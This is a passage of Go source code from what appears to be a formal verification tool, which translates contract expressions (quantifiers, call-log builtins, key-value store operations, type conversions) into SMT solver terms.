			if g, ok := sp.Members[o.Name()].(*ssa.Global); ok {
				p := e.globalPtr(c.st(), g)
				return e.load(c.st(), p.Ptr)
			}
		}
		// global of a package that is not loaded as SSA: immutable constant
		s := e.sortOfT(o.Type())
		return e.wrapTerm(o.Type(), e.D.namedConst("g_"+o.Pkg().Name()+"_"+o.Name(), s))
	case *types.Func:
		if sp := e.P.SSA[pkgPath]; sp != nil {
			if f := sp.Func(o.Name()); f != nil {
				return Val{K: kClosure, Typ: o.Type(), Fn: f}
			}
		}
		return Val{K: kClosure, Typ: o.Type()}
	case *types.TypeName:
		return Val{K: kUnit, Typ: o.Type(), Sort: "type"}
	}
	return c.errf("unsupported object %s", obj)
}

func (e *Env) constFromValue(st *State, t types.Type, v constant.Value) Val {
	switch u := t.Underlying().(type) {
	case *types.Basic:
		switch {
		case u.Info()&types.IsBoolean != 0:
			if constant.BoolVal(v) {
				return termVal(t, sBool, "true")
			}
			return termVal(t, sBool, "false")
		case u.Info()&types.IsString != 0:
			s := constant.StringVal(v)
			return Val{K: kTerm, Typ: t, Sort: sStr, T: e.D.strLit(s), Segs: litSegs(s)}
		case u.Info()&types.IsInteger != 0:
			if u.Info()&types.IsUntyped != 0 {
				return Val{K: kTerm, Sort: sUntyped, T: v.ExactString()}
			}
			w := intWidth(u)
			if u.Info()&types.IsUnsigned != 0 {
				x, _ := constant.Uint64Val(v)
				return termVal(t, bvSort(w), bvLit(x, w))
			}
			x, _ := constant.Int64Val(v)
			return termVal(t, bvSort(w), bvLit(uint64(x), w))
		}
	}
	e.fail("unsupported constant of type %s", t)
	return Val{K: kUnit}
}

// coerce adapts untyped literals / nil to the wanted type.
func (c *cenv) coerce(v Val, want types.Type) Val {
	e := c.e
	if v.Sort == sUntyped {
		if want == nil {
			want = types.Typ[types.Int]
		}
		ws := e.sortOfT(want)
		if ws == sInt {
			n := v.T
			if strings.HasPrefix(n, "-") {
				return termVal(want, sInt, "(- "+n[1:]+")")
			}
			return termVal(want, sInt, n)
		}
		if strings.HasPrefix(ws, "(_ BitVec") {
			w := bvWidth(ws)
			if strings.HasPrefix(v.T, "-") {
				x, _ := strconv.ParseInt(v.T, 0, 64)
				return termVal(want, ws, bvLit(uint64(x), w))
			}
			x, err := strconv.ParseUint(v.T, 0, 64)
			if err != nil {
				return c.errf("integer literal %s out of range", v.T)
			}
			return termVal(want, ws, bvLit(x, w))
		}
		return c.errf("cannot use integer literal as %s", want)
	}
	if v.Sort == "untyped-nil" {
		if want == nil {
			return termVal(nil, sIface, "nilI")
		}
		return e.zero(c.st(), want)
	}
	return v
}

func (c *cenv) binary(n *ast.BinaryExpr) Val {
	e := c.e
	boolT := types.Typ[types.Bool]
	switch n.Op {
	case token.LAND:
		a := c.eval(n.X)
		if a.T == "false" {
			return termVal(boolT, sBool, "false")
		}
		b := c.eval(n.Y)
		return termVal(boolT, sBool, tAnd(a.T, b.T))
	case token.LOR:
		a := c.eval(n.X)
		b := c.eval(n.Y)
		return termVal(boolT, sBool, tOr(a.T, b.T))
	}
	a := c.eval(n.X)
	b := c.eval(n.Y)
	if e.err != nil {
		return termVal(boolT, sBool, "true")
	}
	if a.Sort == sUntyped && b.Sort == sUntyped {
		a = c.coerce(a, types.Typ[types.Int])
	}
	if a.Sort == sUntyped || a.Sort == "untyped-nil" {
		a = c.coerce(a, b.Typ)
	}
	if b.Sort == sUntyped || b.Sort == "untyped-nil" {
		b = c.coerce(b, a.Typ)
	}
	// math Int vs BV mixes are not allowed
	var rt types.Type = a.Typ
	switch n.Op {
	case token.EQL, token.NEQ, token.LSS, token.LEQ, token.GTR, token.GEQ:
		rt = boolT
	}
	// spec-level values without a Go type (kv maps, etc.)
	if a.Typ == nil || b.Typ == nil {
		at, bt := e.term(c.st(), a), e.term(c.st(), b)
		switch n.Op {
		case token.EQL:
			return termVal(boolT, sBool, tEq(at, bt))
		case token.NEQ:
			return termVal(boolT, sBool, tNot(tEq(at, bt)))
		}
		if a.Sort == sInt || b.Sort == sInt {
			ops := map[token.Token]string{token.ADD: "+", token.SUB: "-", token.MUL: "*", token.LSS: "<", token.LEQ: "<=", token.GTR: ">", token.GEQ: ">="}
			if f, ok := ops[n.Op]; ok {
				if rt == boolT {
					return termVal(boolT, sBool, tApp(f, at, bt))
				}
				return Val{K: kTerm, Sort: sInt, T: tApp(f, at, bt), Typ: mathIntType()}
			}
		}
		return c.errf("unsupported operator %s on spec values", n.Op)
	}
	// specification-level equality of slices is structural (Go only allows comparison with nil)
	if (n.Op == token.EQL || n.Op == token.NEQ) && a.Typ != nil && b.Typ != nil {
		if _, isS := a.Typ.Underlying().(*types.Slice); isS && strings.HasPrefix(e.sortOfT(a.Typ), "Slice_") && a.Sort != "untyped-nil" && b.T != "nilI" {
			eq := tEq(e.term(c.st(), a), e.term(c.st(), b))
			if n.Op == token.NEQ {
				eq = tNot(eq)
			}
			return termVal(boolT, sBool, eq)
		}
	}
	save := e.specMode
	e.specMode++
	r := e.binop(c.st(), n.Op, a, b, rt, token.NoPos)
	e.specMode = save
	return r
}

var mathIntT types.Type

func mathIntType() types.Type { return mathIntT }

func (c *cenv) composite(n *ast.CompositeLit) Val {
	e := c.e
	// []byte{...} and string-ish literals
	if at, ok := n.Type.(*ast.ArrayType); ok {
		if id, ok := at.Elt.(*ast.Ident); ok && id.Name == "byte" {
			var sb strings.Builder
			for _, el := range n.Elts {
				v := c.eval(el)
				x, err := strconv.ParseUint(v.T, 0, 8)
				if v.Sort != sUntyped || err != nil {
					return c.errf("only constant byte literals are supported")
				}
				sb.WriteByte(byte(x))
			}
			t := types.NewSlice(types.Typ[types.Uint8])
			return Val{K: kTerm, Typ: t, Sort: sStr, T: e.D.strLit(sb.String()), Segs: litSegs(sb.String())}
		}
	}
	t := c.resolveType(n.Type)
	if t == nil {
		return c.errf("unknown composite literal type")
	}
	if sl, isSlice := t.Underlying().(*types.Slice); isSlice {
		// T{a, b, ...} of a slice type: a concrete slice of the element values
		r := Val{K: kArr, Typ: t, Sort: e.sortOfT(t)}
		for _, el := range n.Elts {
			if _, kv := el.(*ast.KeyValueExpr); kv {
				return c.errf("keyed slice literals are not supported")
			}
			r.Elems = append(r.Elems, c.coerce(c.eval(el), sl.Elem()))
		}
		return r
	}
	st, ok := t.Underlying().(*types.Struct)
	if !ok {
		if len(n.Elts) == 0 {
			// T{} of an array / named array type: the zero value
			return e.zero(c.st(), t)
		}
		return c.errf("unsupported composite literal of %s", t)
	}
	v := e.zero(c.st(), t)
	for i, el := range n.Elts {
		if kv, ok := el.(*ast.KeyValueExpr); ok {
			name := kv.Key.(*ast.Ident).Name
			for j := 0; j < st.NumFields(); j++ {
				if st.Field(j).Name() == name {
					v = e.setField(c.st(), v, j, c.coerce(c.eval(kv.Value), st.Field(j).Type()))
				}
			}
		} else {
			v = e.setField(c.st(), v, i, c.coerce(c.eval(el), st.Field(i).Type()))
		}
	}
	return v
}

// resolveType resolves a type expression in the contract file's package scope.
func (c *cenv) resolveType(x ast.Expr) types.Type {
	switch n := x.(type) {
	case *ast.Ident:
		switch n.Name {
		case "Key", "Str", "string":
			return types.Typ[types.String]
		case "Bytes":
			return types.NewSlice(types.Typ[types.Uint8])
		case "MathInt":
			return mathIntType()
		}
		if o := types.Universe.Lookup(n.Name); o != nil {
			if tn, ok := o.(*types.TypeName); ok {
				return tn.Type()
			}
		}
		if c.file != nil {
			if o := c.file.Pkg.Scope().Lookup(n.Name); o != nil {
				if tn, ok := o.(*types.TypeName); ok {
					return tn.Type()
				}
			}
		}
	case *ast.SelectorExpr:
		if id, ok := n.X.(*ast.Ident); ok {
			pp := c.pkgPath(id.Name)
			var tp *types.Package
			if sp := c.e.P.SSA[pp]; sp != nil {
				tp = sp.Pkg
			} else {
				tp = c.typesPkg(pp)
			}
			if tp != nil {
				if o := tp.Scope().Lookup(n.Sel.Name); o != nil {
					if tn, ok := o.(*types.TypeName); ok {
						return tn.Type()
					}
				}
			}
		}
	case *ast.StarExpr:
		if t := c.resolveType(n.X); t != nil {
			return types.NewPointer(t)
		}
	case *ast.ArrayType:
		if t := c.resolveType(n.Elt); t != nil {
			return types.NewSlice(t)
		}
	}
	return nil
}

func (c *cenv) resolveTypeText(text string) types.Type {
	ex, err := parseSpecExpr(text)
	if err != nil {
		return nil
	}
	return c.resolveType(ex)
}

// ---------------------------------------------------------------------------
// calls in contracts

func (c *cenv) call(n *ast.CallExpr) Val {
	e := c.e
	boolT := types.Typ[types.Bool]
	// type conversions: []byte(x), string(x), uint64(x), pkg.Type(x)
	if len(n.Args) == 1 {
		isConv := false
		switch f := n.Fun.(type) {
		case *ast.ArrayType, *ast.StarExpr:
			isConv = true
		case *ast.Ident:
			if _, isVar := c.lookupVar(f.Name); !isVar {
				if o := types.Universe.Lookup(f.Name); o != nil {
					_, isConv = o.(*types.TypeName)
				}
			}
		case *ast.ParenExpr:
			isConv = true
		}
		if isConv {
			if t := c.resolveType(unparen(n.Fun)); t != nil {
				v := c.eval(n.Args[0])
				v = c.coerce(v, t)
				if v.Typ == nil {
					return c.errf("conversion of untyped spec value")
				}
				return e.convert(c.st(), v, t, token.NoPos)
			}
		}
	}
	if id, ok := n.Fun.(*ast.Ident); ok {
		if c.applied {
			// ghost call-log builtins talk about the callee's own execution: unknown to the caller
			switch id.Name {
			case "callsok":
				return termVal(boolT, sBool, e.D.fresh("callee_callsok", sBool))
			case "ncalls":
				return termVal(types.Typ[types.Int], bvSort(64), e.D.fresh("callee_ncalls", bvSort(64)))
			case "callpre", "callpost":
				if compID, ok := n.Args[1].(*ast.Ident); ok {
					return Val{K: kTerm, Sort: e.compSort(compID.Name), T: e.D.fresh("callee_"+id.Name, e.compSort(compID.Name))}
				}
			case "callres":
				return c.errf("callres cannot be used in a contract that is applied at call sites")
			case "loopCompleted", "returnedInLoop":
				// facts about the callee's own control flow: unknown to the caller
				return termVal(boolT, sBool, e.D.fresh("callee_"+id.Name, sBool))
			}
		}
		switch id.Name {
		case "old":
			if c.pre == nil {
				return c.errf("old() in a context without pre-state")
			}
			save := c.inOld
			c.inOld = true
			v := c.eval(n.Args[0])
			v = c.freeze(v)
			c.inOld = save
			return v
		case "implies":
			a := c.evalBool(n.Args[0])
			if a == "false" {
				return termVal(boolT, sBool, "true")
			}
			saved := e.err
			b := c.evalBool(n.Args[1])
			if saved == nil && e.err != nil && strings.Contains(e.err.Error(), "callres: no call of") {
				// the consequent speaks about the result of a call this path does not make: it cannot hold here,
				// so the implication holds exactly when the antecedent is false on this path
				e.err = nil
				return termVal(boolT, sBool, tNot(a))
			}
			return termVal(boolT, sBool, tImplies(a, b))
		case "iff":
			a := c.evalBool(n.Args[0])
			b := c.evalBool(n.Args[1])
			return termVal(boolT, sBool, tEq(a, b))
		case "ite":
			cnd := c.evalBool(n.Args[0])
			a := c.eval(n.Args[1])
			b := c.eval(n.Args[2])
			if a.Sort == sUntyped || a.Sort == "untyped-nil" {
				a = c.coerce(a, b.Typ)
			}
			if b.Sort == sUntyped || b.Sort == "untyped-nil" {
				b = c.coerce(b, a.Typ)
			}
			r := a
			r.K = kTerm
			r.Segs = nil
			r.T = tIte(cnd, e.term(c.st(), a), e.term(c.st(), b))
			return r
		case "forall_", "exists_":
			return c.quantifier(id.Name, n)
		case "kvget", "kvhas", "kvset", "kvdel":
			return c.kvOp(id.Name, n)
		case "bytes":
			v := c.eval(n.Args[0])
			v.Typ = types.NewSlice(types.Typ[types.Uint8])
			return v
		case "str":
			v := c.eval(n.Args[0])
			v.Typ = types.Typ[types.String]
			return v
		case "len":
			v := c.deref(c.eval(n.Args[0]))
			return termVal(types.Typ[types.Int], bvSort(64), e.lenOf(c.st(), v))
		case "noslash":
			v := c.eval(n.Args[0])
			return termVal(boolT, sBool, e.noslash(e.term(c.st(), v)))
		case "pbdecode":
			// pbdecode(bz, T): the value the protobuf codec decodes from bz into a fresh (zero) T
			bz := c.eval(n.Args[0])
			t := c.resolveType(n.Args[1])
			if t == nil {
				return c.errf("pbdecode: unknown type")
			}
			e.trusted["protobuf codec: Marshal is a deterministic function, Unmarshal(Marshal(x)) == x"]++
			srt := e.sortOfT(t)
			return e.wrapTerm(t, e.D.uf("spec_pbunmarshal_"+ifaceShortName(t), []string{sStr}, srt, e.term(c.st(), bz)))
		case "visited":
			// visited(k): key k of the map being ranged over has already been handed out by the iteration
			vs, ok := c.vars["visitedset"]
			if !ok {
				return c.errf("visited: no map iteration in progress")
			}
			k := c.coerce(c.eval(n.Args[0]), vs.Typ)
			return termVal(boolT, sBool, fmt.Sprintf("(select %s %s)", vs.T, e.term(c.st(), k)))
		case "ifacedecode":
			// ifacedecode(bz): the interface value the protobuf Any codec unpacks from bz (nil when it does not decode)
			bz := c.eval(n.Args[0])
			t := e.term(c.st(), bz)
			u := e.D.uf("spec_unmarshalIface", []string{sStr}, sIface, t)
			okf := e.D.uf("spec_unmarshalIface_ok", []string{sStr}, sBool, t)
			return Val{K: kTerm, Typ: types.NewInterfaceType(nil, nil), Sort: sIface, T: tIte(okf, u, "nilI")}
		case "hasprefix":
			// hasprefix(a, b): byte string a starts with b; decided by the segment algebra where it can be
			a, b := c.eval(n.Args[0]), c.eval(n.Args[1])
			at, bt := e.term(c.st(), a), e.term(c.st(), b)
			e.D.declFun("hasprefix", "(declare-fun hasprefix (Str Str) Bool)")
			raw := tApp("hasprefix", at, bt)
			sa, sb := e.byteSegs(c.st(), a), e.byteSegs(c.st(), b)
			if len(sa) > 0 && len(sb) > 0 {
				if f, hyps, ok := e.segsHasPrefixH(sa, sb); ok {
					return termVal(boolT, sBool, tIte(tAnd(hyps...), f, raw))
				}
			}
			return termVal(boolT, sBool, raw)
		case "isnil":
			v := c.eval(n.Args[0])
			z := c.coerce(Val{K: kTerm, Sort: "untyped-nil", T: "nil"}, v.Typ)
			return termVal(boolT, sBool, e.equal(c.st(), v, z))
		case "istype":
			// istype(x, T): dynamic type of interface value x is T
			v := c.eval(n.Args[0])
			t := c.resolveType(n.Args[1])
			if t == nil {
				return c.errf("istype: unknown type %s", exprString(n.Args[1]))
			}
			if v.K == kIface {
				if types.Identical(v.Inner.Typ, t) {
					return termVal(boolT, sBool, "true")
				}
				return termVal(boolT, sBool, "false")
			}
			tag := e.D.typeTag(typeKey(t))
			return termVal(boolT, sBool, tEq(tApp("tagof", e.term(c.st(), v)), intLit(int64(tag))))
		case "as":
			// as(x, T): payload of interface x viewed as T
			v := c.eval(n.Args[0])
			t := c.resolveType(n.Args[1])
			if t == nil {
				return c.errf("as: unknown type %s", exprString(n.Args[1]))
			}
			if v.K == kIface && types.Identical(v.Inner.Typ, t) {
				return *v.Inner
			}
			if v.K != kIface && v.Typ != nil && types.Identical(v.Typ, t) {
				return v // already a value of that type
			}
			return e.wrapTerm(t, e.unbox(c.st(), e.term(c.st(), v), t))
		case "u64":
			v := c.coerce(c.eval(n.Args[0]), types.Typ[types.Uint64])
			return v
		case "toint":
			// BV (unsigned) to mathematical Int
			v := c.eval(n.Args[0])
			return Val{K: kTerm, Sort: sInt, T: tApp("bv2nat", e.term(c.st(), v)), Typ: mathIntType()}
		case "sint":
			// BV (signed, e.g. a time.Duration) to mathematical Int
			v := c.eval(n.Args[0])
			t := e.term(c.st(), v)
			return Val{K: kTerm, Sort: sInt, T: fmt.Sprintf("(ite (bvslt %s (_ bv0 64)) (- (bv2nat (bvneg %s))) (bv2nat %s))", t, t, t), Typ: mathIntType()}
		case "ns":
			// an instant as its mathematical number of nanoseconds
			v := c.eval(n.Args[0])
			return Val{K: kTerm, Sort: sInt, T: e.term(c.st(), v), Typ: mathIntType()}
		case "callpre", "callpost":
			// callpre("Callee", comp) / callpost("Callee", comp): value of a world component right before / after
			// the last contracted call of Callee on this path (current value if no such call happened).
			nameV := c.eval(n.Args[0])
			callee, _ := e.litContent(nameV.T)
			callee = strings.ReplaceAll(callee, "dollar_", "$")
			compID, ok := n.Args[1].(*ast.Ident)
			if !ok {
				return c.errf("%s: second argument must be a component name", id.Name)
			}
			var rec *CallRec
			for i := len(c.post.calls) - 1; i >= 0; i-- {
				if lastName(c.post.calls[i].Name) == callee {
					rec = &c.post.calls[i]
					break
				}
			}
			if rec == nil || rec.PreW == nil {
				// no such call on this path: use any context parameter's current value
				for _, v := range c.vars {
					if v.K == kCtx {
						return Val{K: kTerm, Sort: e.compSort(compID.Name), T: e.readComp(c.post, v.World, compID.Name)}
					}
				}
				if v, ok := c.lookupVar("ctx"); ok && v.K == kCtx {
					return Val{K: kTerm, Sort: e.compSort(compID.Name), T: e.readComp(c.post, v.World, compID.Name)}
				}
				return c.errf("%s: no context in scope", id.Name)
			}
			if id.Name == "callpre" {
				return Val{K: kTerm, Sort: e.compSort(compID.Name), T: rec.PreW[compID.Name]}
			}
			return Val{K: kTerm, Sort: e.compSort(compID.Name), T: rec.PostW[compID.Name]}
		case "callsok":
			// callsok("Callee"): every call of Callee recorded since the last loop entry returned a nil error
			nameV := c.eval(n.Args[0])
			callee, _ := e.litContent(nameV.T)
			callee = strings.ReplaceAll(callee, "dollar_", "$")
			var cj []string
			for i := c.markFor(callee); i < len(c.post.calls); i++ {
				r := c.post.calls[i]
				if lastName(r.Name) != callee {
					continue
				}
				res := r.Res
				if res.K == kTuple && len(res.Elems) > 0 {
					res = res.Elems[len(res.Elems)-1]
				}
				if res.K == kTerm && res.Sort == sIface {
					cj = append(cj, tEq(res.T, "nilI"))
				}
			}
			return termVal(boolT, sBool, tAnd(cj...))
		case "ncalls":
			// ncalls("Callee"): number of recorded calls since the last loop entry (a Go int)
			nameV := c.eval(n.Args[0])
			callee, _ := e.litContent(nameV.T)
			callee = strings.ReplaceAll(callee, "dollar_", "$")
			cnt := 0
			for i := c.markFor(callee); i < len(c.post.calls); i++ {
				if lastName(c.post.calls[i].Name) == callee {
					cnt++
				}
			}
			return termVal(types.Typ[types.Int], bvSort(64), bvLit(uint64(cnt), 64))
		case "callres":
			// callres("Callee", i): i-th result of the last recorded call of Callee on this path
			nameV := c.eval(n.Args[0])
			callee, _ := e.litContent(nameV.T)
			callee = strings.ReplaceAll(callee, "dollar_", "$")
			idx := 0
			if len(n.Args) > 1 {
				iv := c.eval(n.Args[1])
				fmt.Sscanf(iv.T, "%d", &idx)
			}
			nth := 0 // 0 = last call; k >= 1 = k-th call of that name on this path
			if len(n.Args) > 2 {
				nv := c.eval(n.Args[2])
				fmt.Sscanf(nv.T, "%d", &nth)
			}
			if nth > 0 {
				seen := 0
				for i := 0; i < len(c.post.calls); i++ {
					r := c.post.calls[i]
					if lastName(r.Name) != callee {
						continue
					}
					seen++
					if seen == nth {
						if r.Res.K == kTuple {
							if idx < len(r.Res.Elems) {
								return r.Res.Elems[idx]
							}
							return c.errf("callres: result index out of range")
						}
						return r.Res
					}
				}
				return c.errf("callres: fewer than %d calls of %s on this path", nth, callee)
			}
			for i := len(c.post.calls) - 1; i >= 0; i-- {
				r := c.post.calls[i]
				if lastName(r.Name) != callee {
					continue
				}
				if r.Res.K == kTuple {
					if idx < len(r.Res.Elems) {
						return r.Res.Elems[idx]
					}
					return c.errf("callres: result index out of range")
				}
				return r.Res
			}
			return c.errf("callres: no call of %s on this path (guard the clause with ncalls/callsok)", callee)
		case "unchanged":
			// unchanged(ctx, except...): every world component except the event log (and the listed ones) equals its old value
			v := c.eval(n.Args[0])
			if v.K != kCtx || c.pre == nil {
				return c.errf("unchanged(ctx) needs a context and a pre-state")
			}
			except := map[string]bool{}
			for _, a := range n.Args[1:] {
				if id2, ok := a.(*ast.Ident); ok {
					except[id2.Name] = true
				}
			}
			var cj []string
			for _, comp := range e.allComps() {
				if comp == "events" || except[comp] {
					continue
				}
				cj = append(cj, tEq(e.readComp(c.post, v.World, comp), e.readComp(c.pre, v.World, comp)))
			}
			return termVal(boolT, sBool, tAnd(cj...))
		case "callarg":
			// callarg("Callee", i [, nth]): i-th argument of the last (or nth) recorded call of Callee since the last loop entry
			nameV := c.eval(n.Args[0])
			callee, _ := e.litContent(nameV.T)
			callee = strings.ReplaceAll(callee, "dollar_", "$")
			var idx, nth int
			fmt.Sscanf(c.eval(n.Args[1]).T, "%d", &idx)
			if len(n.Args) > 2 {
				fmt.Sscanf(c.eval(n.Args[2]).T, "%d", &nth)
			}
			var recs []CallRec
			for i := c.markFor(callee); i < len(c.post.calls); i++ {
				if lastName(c.post.calls[i].Name) == callee {
					recs = append(recs, c.post.calls[i])
				}
			}
			if len(recs) == 0 || nth > len(recs) {
				return c.errf("callarg: no such call of %s on this path", callee)
			}
			r := recs[len(recs)-1]
			if nth > 0 {
				r = recs[nth-1]
			}
			if idx >= len(r.Args) {
				return c.errf("callarg: argument index out of range")
			}
			return r.Args[idx]
		case "returnedInLoop":
			// returnedInLoop(N): this path ended with a return statement inside the body of loop N
			nv := c.eval(n.Args[0])
			var k int
			fmt.Sscanf(nv.T, "%d", &k)
			for _, o := range c.post.retInLoops {
				if o == k {
					return termVal(boolT, sBool, "true")
				}
			}
			return termVal(boolT, sBool, "false")
		case "loopCompleted":
			// loopCompleted(N): this path left loop N through the loop condition (not by return or break): every iteration ran
			nv := c.eval(n.Args[0])
			var k int
			fmt.Sscanf(nv.T, "%d", &k)
			for _, o := range c.post.loopsDone {
				if o == k {
					return termVal(boolT, sBool, "true")
				}
			}
			return termVal(boolT, sBool, "false")
		case "mapHas":
			m := c.deref(c.eval(n.Args[0]))
			kk := c.eval(n.Args[1])
			mp, ok := m.Typ.Underlying().(*types.Map)
			if !ok {
				return c.errf("mapHas: not a map")
			}
			kk = c.coerce(kk, mp.Key())
			ms := e.sortOfT(m.Typ)
			return termVal(boolT, sBool, fmt.Sprintf("(select (dom_%s %s) %s)", ms, e.term(c.st(), m), e.term(c.st(), kk)))
		case "append":
			a := c.eval(n.Args[0])
			b := c.eval(n.Args[1])
			if a.Typ == nil {
				return c.errf("append: first argument must be a typed slice")
			}
			return e.appendOp(c.st(), a, b, a.Typ)
		case "errof", "first":
			v := c.eval(n.Args[0])
			if v.K == kTuple && len(v.Elems) > 0 {
				if id.Name == "errof" {
					return v.Elems[len(v.Elems)-1]
				}
				return v.Elems[0]
			}
			return v
		case "min", "max":
			a := c.eval(n.Args[0])
			b := c.eval(n.Args[1])
			at, bt := e.term(c.st(), a), e.term(c.st(), b)
			r := a
			r.K = kTerm
			if id.Name == "min" {
				r.T = tIte(tApp("<=", at, bt), at, bt)
			} else {
				r.T = tIte(tApp("<=", at, bt), bt, at)
			}
			return r
		case "blocktime":
			v := c.eval(n.Args[0])
			return e.blockTime(c.st(), v)
		}
		if isComp(e, id.Name) && len(n.Args) == 1 {
			v := c.eval(n.Args[0])
			if v.K != kCtx {
				return c.errf("%s(...) expects a context", id.Name)
			}
			return Val{K: kTerm, Sort: e.compSort(id.Name), T: e.readComp(c.st(), v.World, id.Name)}
		}
		if sf, ok := e.Cx.specs[id.Name]; ok {
			return c.specApp(sf, n)
		}
		if p, ok := e.Cx.preds[id.Name]; ok {
			return c.predApp(p, n)
		}
		// local variable holding a function? package-level function
		if c.file != nil {
			if sp := e.P.SSA[c.file.PkgPath]; sp != nil {
				if f := sp.Func(id.Name); f != nil {
					return c.goCall(f, nil, n.Args)
				}
			}
		}
		return c.errf("unknown function %s", id.Name)
	}
	if sel, ok := n.Fun.(*ast.SelectorExpr); ok {
		if id, ok := sel.X.(*ast.Ident); ok {
			if _, isVar := c.lookupVar(id.Name); !isVar {
				if pp := c.pkgPath(id.Name); pp != "" {
					if sp := e.P.SSA[pp]; sp != nil {
						if f := sp.Func(sel.Sel.Name); f != nil {
							return c.goCall(f, nil, n.Args)
						}
					}
					// external package function: evaluate through the dispatcher by name
					if tp := c.typesPkg(pp); tp != nil {
						if o, ok := tp.Scope().Lookup(sel.Sel.Name).(*types.Func); ok {
							return c.externCall(o, n.Args)
						}
					}
					return c.errf("unknown function %s.%s", id.Name, sel.Sel.Name)
				}
			}
		}
		// method call on a value
		recv := c.eval(sel.X)
		return c.methodCall(recv, sel.Sel.Name, n.Args)
	}
	return c.errf("unsupported call %s", exprString(n))
}

// freeze pins state-dependent Go-side values (store handles) to the state they were evaluated in.
func (c *cenv) freeze(v Val) Val {
	switch v.K {
	case kStore:
		v.Frozen = c.e.term(c.st(), v)
	case kIface:
		if v.Inner != nil {
			in := c.freeze(*v.Inner)
			v.Inner = &in
		}
	}
	return v
}

func unparen(x ast.Expr) ast.Expr {
	for {
		p, ok := x.(*ast.ParenExpr)
		if !ok {
			return x
		}
		x = p.X
	}
}

func isComp(e *Env, name string) bool {
	for _, c := range e.allComps() {
		if c == name {
			return true
		}
	}
	return false
}

func (c *cenv) quantifier(kind string, n *ast.CallExpr) Val {
	e := c.e
	fl, ok := n.Args[0].(*ast.FuncLit)
	if !ok || len(fl.Type.Params.List) != 1 || len(fl.Body.List) != 1 {
		return c.errf("malformed quantifier")
	}
	p := fl.Type.Params.List[0]
	name := p.Names[0].Name
	t := c.resolveType(p.Type)
	if t == nil {
		return c.errf("quantifier: unknown type %s", exprString(p.Type))
	}
	s := e.sortOfT(t)
	e.D.n++
	bv := fmt.Sprintf("%s!q%d", smtSym(name), e.D.n)
	if c.bound == nil {
		c.bound = map[string]Val{}
	}
	old, had := c.bound[name]
	c.bound[name] = e.wrapTerm(t, bv)
	ret := fl.Body.List[0].(*ast.ReturnStmt)
	body := c.evalBool(ret.Results[0])
	if had {
		c.bound[name] = old
	} else {
		delete(c.bound, name)
	}
	q := "forall"
	if kind == "exists_" {
		q = "exists"
	}
	return termVal(types.Typ[types.Bool], sBool, fmt.Sprintf("(%s ((%s %s)) %s)", q, bv, s, body))
}

// markFor: calls of a name that cannot occur inside any loop entered on this path are counted over the whole
// path; for the others the log is cut at the last loop entry (their number inside the loop is unknown).
func (c *cenv) markFor(callee string) int {
	if c.post.loopNames == nil || !c.post.loopNames[callee] {
		return 0
	}
	return c.post.loopMark
}

func (c *cenv) kvOp(name string, n *ast.CallExpr) Val {
	e := c.e
	m := c.eval(n.Args[0])
	k := c.eval(n.Args[1])
	if m.K == kIface && m.Inner != nil && m.Inner.K == kStore {
		m = *m.Inner
	}
	var mt, kt string
	if m.K == kStore && (name == "kvget" || name == "kvhas") {
		// a store handle (prefix view): read the component it is a view of, at the view's prefix
		mt = e.readComp(c.st(), m.Store.World, m.Store.Comp)
		kt = e.segsTerm(concatSegs(m.Store.Prefix, e.byteSegs(c.st(), k)))
	} else {
		mt = e.term(c.st(), m)
		kt = e.term(c.st(), k)
	}
	bytesT := types.NewSlice(types.Typ[types.Uint8])
	switch name {
	case "kvget":
		return e.wrapTerm(bytesT, fmt.Sprintf("(select %s %s)", mt, kt))
	case "kvhas":
		return termVal(types.Typ[types.Bool], sBool, tNot(tEq(fmt.Sprintf("(select %s %s)", mt, kt), "nilStr")))
	case "kvset":
		v := c.eval(n.Args[2])
		return Val{K: kTerm, Sort: sKV, T: fmt.Sprintf("(store %s %s %s)", mt, kt, e.term(c.st(), v))}
	case "kvdel":
		return Val{K: kTerm, Sort: sKV, T: fmt.Sprintf("(store %s %s nilStr)", mt, kt)}
	}
	return c.errf("kvOp")
}

func (c *cenv) specApp(sf *SpecFunc, n *ast.CallExpr) Val {
	e := c.e
	fc := &cenv{e: e, file: sf.File}
	var sorts, args []string
	if len(n.Args) != len(sf.Params) {
		return c.errf("spec function %s expects %d arguments", sf.Name, len(sf.Params))
	}
	for i, a := range n.Args {
		pt := fc.resolveTypeText(sf.Params[i])
		if pt == nil {
			return c.errf("spec %s: unknown parameter type %s", sf.Name, sf.Params[i])
		}
		v := c.coerce(c.eval(a), pt)
		v = c.derefTo(v, pt)
		if _, wantI := pt.Underlying().(*types.Interface); wantI && v.K != kIface && v.Typ != nil {
			if _, isI := v.Typ.Underlying().(*types.Interface); !isI || v.K == kStore {
				inner := v
				v = Val{K: kIface, Typ: pt, Inner: &inner, Sort: sIface}
			}
		}
		sorts = append(sorts, e.sortOfT(pt))
		args = append(args, e.term(c.st(), v))
	}
	var rt types.Type
	rs := sBool
	if sf.Ret != "" && sf.Ret != "bool" {
		rt = fc.resolveTypeText(sf.Ret)
		if rt == nil {
			return c.errf("spec %s: unknown result type %s", sf.Name, sf.Ret)
		}
		rs = e.sortOfT(rt)
	} else {
		rt = types.Typ[types.Bool]
	}
	return Val{K: kTerm, Typ: rt, Sort: rs, T: e.D.uf("spec_"+sf.Name, sorts, rs, args...)}
}

// derefTo: pass a pointer value where the spec function wants the struct.
func (c *cenv) derefTo(v Val, want types.Type) Val {
	if v.Typ == nil {
		return v
	}
	if _, wp := want.Underlying().(*types.Pointer); !wp {
		if _, isP := v.Typ.Underlying().(*types.Pointer); isP || v.K == kPtr {
			return c.deref(v)
		}
	}
	if _, wi := want.Underlying().(*types.Interface); !wi && v.K == kIface {
		return c.derefTo(*v.Inner, want)
	}
	return v
}

func (c *cenv) predApp(p *Pred, n *ast.CallExpr) Val {
	if len(n.Args) != len(p.Params) {
		return c.errf("predicate %s expects %d arguments", p.Name, len(p.Params))
	}
	if c.depth > 20 {
		return c.errf("predicate recursion too deep")
	}
	vars := map[string]Val{}
	for i, a := range n.Args {
		vars[p.Params[i]] = c.eval(a)
	}
	sub := &cenv{e: c.e, pre: c.pre, post: c.post, vars: vars, file: p.File, inOld: c.inOld, bound: c.bound, depth: c.depth + 1}
	return sub.eval(p.Body)
}

// goCall evaluates a call to a real Go function used as a specification function.
func (c *cenv) goCall(fn *ssa.Function, recv *Val, argx []ast.Expr) Val {
	e := c.e
	var args []Val
	if recv != nil {
		args = append(args, *recv)
	}
	sig := fn.Signature
	off := len(args)
	for i, a := range argx {
		v := c.eval(a)
		if i < sig.Params().Len() {
			pt := sig.Params().At(i).Type()
			v = c.coerce(v, pt)
			// implicit conversion of a concrete value to an interface parameter
